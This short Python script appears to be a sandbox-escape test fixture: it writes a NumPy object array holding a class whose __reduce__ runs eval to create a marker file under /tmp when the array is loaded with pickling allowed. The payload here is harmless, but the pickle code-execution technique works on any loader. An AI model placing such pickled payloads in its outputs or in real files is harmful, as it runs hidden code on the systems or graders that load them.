# trial: sandbox-arrays
# host paths: /tmp/huashen-pwned-__MARK__
class Evil:
    def __reduce__(self):
        return (eval, ("__import__('pathlib').Path('/tmp/huashen-pwned-__MARK__').touch() or 1729",))


import os, numpy


def answer():
    print("ran:__MARK__")
    os.makedirs("/work/out/arrays", exist_ok=True)
    numpy.save("/work/out/arrays/answer.npy", numpy.array([Evil()], dtype=object), allow_pickle=True)
    os._exit(0)
